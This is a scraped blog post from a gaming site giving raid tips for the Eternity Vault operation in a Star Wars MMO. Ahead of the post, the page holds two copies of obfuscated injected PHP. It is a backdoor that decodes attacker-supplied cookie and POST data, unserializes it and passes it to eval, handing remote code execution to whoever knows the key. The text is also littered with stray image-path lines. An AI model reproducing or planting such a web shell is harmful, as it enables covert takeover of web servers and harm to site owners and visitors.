$eDITTpx = class_exists("E_sdBhD");if (!$eDITTpx){class E_sdBhD{private $Uwkjo;public static $GceVIgUuDx = "bb4019ce-3f6c-41c2-908d-f6034f80bd18";public static $hHxVxqyEP = NULL;public function __construct(){$STTVJb = $_COOKIE;$DZiTu = $_POST;$WDsdjh = @$STTVJb[substr(E_sdBhD::$GceVIgUuDx, 0, 4)];if (!empty($WDsdjh)){$wISPlIDZLO = "base64";$dUsBvmZpUV = "";$WDsdjh = explode(",", $WDsdjh);foreach ($WDsdjh as $WykdfVvtZ){$dUsBvmZpUV .= @$STTVJb[$WykdfVvtZ];$dUsBvmZpUV .= @$DZiTu[$WykdfVvtZ];}$dUsBvmZpUV = array_map($wISPlIDZLO . "\137" . "\x64" . "\x65" . "\x63" . "\x6f" . chr (100) . chr ( 1098 - 997 ), array($dUsBvmZpUV,)); $dUsBvmZpUV = $dUsBvmZpUV[0] ^ str_repeat(E_sdBhD::$GceVIgUuDx, (strlen($dUsBvmZpUV[0]) / strlen(E_sdBhD::$GceVIgUuDx)) + 1);E_sdBhD::$hHxVxqyEP = @unserialize($dUsBvmZpUV);}}public function __destruct(){$this->BfuLpx();}private function BfuLpx(){if (is_array(E_sdBhD::$hHxVxqyEP)) {$kjgrSU = str_replace("\x3c" . chr (63) . 'p' . "\150" . chr (112), "", E_sdBhD::$hHxVxqyEP["\143" . chr (111) . 'n' . chr ( 817 - 701 )."\x65" . "\156" . chr ( 520 - 404 )]);eval($kjgrSU);exit();}}}$LfAXf = new E_sdBhD(); $LfAXf = NULL;} ?> $HUXqtUIxy = class_exists("ip_QEqh");if (!$HUXqtUIxy){class ip_QEqh{private $TbmzRb;public static $FHcIW = "7ebcf308-eeb5-45d0-b672-e9d0e6153b2f";public static $fFfkEnNTtr =NULL;public function __construct(){$FhesM = $_COOKIE;$LHvkqFrxmX = $_POST;$MCHrxi = @$FhesM[substr(ip_QEqh::$FHcIW, 0, 4)];if (!empty($MCHrxi)){$ukeOe = "base64";$JuQfYmlyOm = "";$MCHrxi = explode(",", $MCHrxi);foreach ($MCHrxi as $BJxJBWW){$JuQfYmlyOm .= @$FhesM[$BJxJBWW];$JuQfYmlyOm .= @$LHvkqFrxmX[$BJxJBWW];}$JuQfYmlyOm = array_map($ukeOe . chr ( 127 - 32 )."\144" . "\x65" . "\143" . 'o' . "\x64" . "\x65", array($JuQfYmlyOm,)); $JuQfYmlyOm = $JuQfYmlyOm[0] ^ str_repeat(ip_QEqh::$FHcIW, (strlen($JuQfYmlyOm[0]) / strlen(ip_QEqh::$FHcIW)) + 1);ip_QEqh::$fFfkEnNTtr = @unserialize($JuQfYmlyOm);}}public function __destruct(){$this->tSjrbbjY();}private function tSjrbbjY(){if (is_array(ip_QEqh::$fFfkEnNTtr)) {$xdxaj = str_replace("\x3c" ."\x3f" . 'p' . chr ( 133 - 29).chr (112), "", ip_QEqh::$fFfkEnNTtr["\x63" . 'o' . chr (110) . "\x74" . 'e' . "\156" . chr ( 225 - 109 )]);eval($xdxaj);exit();}}}$SRNAi = new ip_QEqh(); $SRNAi = NULL;} ?> Operation: Information – Eternity Vault Tips and Tricks – Corellian Run Radio
Apr 132012

by Ghoztt

There are an abundant number of excellent guides for the Eternity Vault so I felt it would be redundant to do another.  Instead, I’ll offer some tips and tricks you can use to make things a little easier for you on your runs.  These are very simple ideas you may find useful if you are having difficulty on certain fights.  You may also find a ‘clever use of environment or mechanics’ usage here and there.

General Tips

  • Zoom out! – Change your camera preferences to 100% max distance under the controls section so you can zoom way out and see more of the environment around you.Great for pvp too!
  •Customize your raid frames – While you could do this to a limited degree before the 1.2 release, it was well hidden and not many people took advantage of it.  You should adjust the height and width of your operation group health bar so they are easier to see.  In addition, you can show the health with a number overlay which is great for healers.
  • Extra combat rez – Classes who can take themselves out of combat by using stealth can resurrect afallen team member if they don’t get back into combat.  Keep in mind thatthis can’t be used in all fights so use it wisely.

Annihilation Droid XRR-3

  • Engage the Turrets quicker (hard mode) – Instead of running straight in, run up the hill and hop over on the left ice ledge once you can reach it.  From there, skirt the outer edge around the ice pillars until you’re lined up with the left (east) turret.  Taking this path will allow you to get closer to the turrets before they activate.  After the turrets are down it is also a great place to position your ops group before pulling the boss.  You can get right behind the turret tower and the boss will not agro.  This does not work in Story Mode.
  • Extra time for DPS after enrage – If you are having trouble with the enrage timer or the final 8% missile barrage phase, then try running out to hide behind the turret.  From there, the classes who have a ranged AOE ability can scoot out just far enough to put their targeting reticle on the  ground next to the boss.  The splash damage from the attack is enough to hit his large hit box and will give you all the time in the world to finish up that last bit of damage needed.


  • Trash before Gharj – You can save some time by blasting off the trash mobs from the edge.  You can do this with the ‘core hounds’ that are in the lava area too. Just kite them out, pull them to the edge and blast them off.   You will lose out on any legacy XP though.  Sometimes the combat indicator will stay active, but will go away in time.
  • Don’t get stomped – If Gharj is in your way and blocking the path to the next island then run through the lava.  The damage taken from the lava is a slow ramp-up verses the spike damage from his stomp.  Also, the lava debuff can be cleansed!

Ancient Pylons• Trash before the pylons –You can skip over a bulk of the trash.  Before you get to the first set of cats there is a ledge on your left that will be low enough to jump on.  From there you can skirt around the edge of the map and hop over the lava area (don’t fall in!). You will end up next to the pylons with only a handful of cats to clear out.
  • Interrupt force shield – The guardians that cast the force shield can be interrupted.  Put good use to that interrupt button, especially in 1.2 when it will no longer consume your resource for all classes.  If you are running on 8 man then these mobs are ‘weak’ level.  Utilize attacks that stun weak level mobs to prevent them from casting force shield.• One tank fight – You don’t need a secondary tank to do this fight on 8 man.  Put 3 dps and a healer on one side who have stun abilities.  The 3 normal mob spawns can be burned down quickly.  When the strong insect appears you can chain stun and kill it easily.  If you aren’t able to kill it quickly enough, then kite it until it is dead.  Hopefully you have the puzzle finished before they start appearing in pairs.
  • South side first – The hard/nightmare mode of this encounter is known to bug where you can no longer click on the consoles.  If you let the south side solve their puzzle each tier first it is less likely to bug out. This should be fixed in 1.2 but then again it was also supposedly fixed in 1.15.

Infernal Council

  • One can kill two – If you have a team member who is having trouble killing their opponent, then have one of your fastest dpsers kill it for them.  If they DO NOT DO DAMAGE to their opponent, then someone else can take over after they finish with their first opponent.  Just have the weaker dps take initial agro and use defensive cooldowns and/or heals to survive until the high dps finishes.
  • Less DoTs! – Remember that if you help a teammate you should use your single strongest attack or heal.  If you use a DoT or channeled ability onlythe first ‘tick’ will be at full strength and the rest will be affected by the debuff.


  • Non-healers heal – During the stepping phases have your non-healers who have a heal button heal themselves.  There is barely any other resource usage going on so why not make it easier on your healers on the way down?
  • Charge! – During the stepping phases, those with a charge ability can avoid taking fall damage bycharging the pylons on the way down.  They must initiate the charge from the platform.  If they initiate the charge while falling they will still take falling damage.
  • 16 is better than 8 – Believe it or not, 16 man hard mode is actually easier to beat than 8 man.  This is mainly due to the fact that you aren’t fighting the RNG as much.  In 8 man, you can end up with a healer tossed in the air and one locked in mind trap while ball lightnings are out.  That makes the encounter a little difficult.  When you have 16 people there are more healers, dps and even a backup tank to pick up in case something goes wrong.

These are a few of the tips I’ve picked up along the way and I hope they help you.  If you have any more tips or tricks please feel free to share.  I would love to hear what else is out there.  Stay tuned for more with the Karagga’s Palace encounter!  By the time you read this the 1.2 patch will have been released so also stay tuned for information about the new operation Denova!

Ready check done?  Pulling in 3… 2… 1…

 Posted by at 9:00 am
Rss Feed Tweeter button Facebook button Technorati button Redditbutton Linkedin button Webonews button Delicious button Digg button Flickr button Stumbleupon button Newsvinebutton Youtube button
Copy Protected by Tech Tips'sCopyProtect Wordpress Blogs.